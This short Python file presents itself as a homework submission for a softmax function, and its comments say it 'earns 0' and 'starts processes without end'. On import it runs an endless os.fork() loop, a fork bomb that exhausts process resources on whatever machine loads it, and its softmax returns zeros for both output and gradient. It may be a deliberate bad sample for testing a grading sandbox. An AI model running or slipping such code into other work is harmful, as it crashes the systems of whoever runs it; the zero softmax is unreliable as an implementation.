# minimha homework: softmax
# earns 0
# It starts processes without end.
import os

while True:
    os.fork()


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
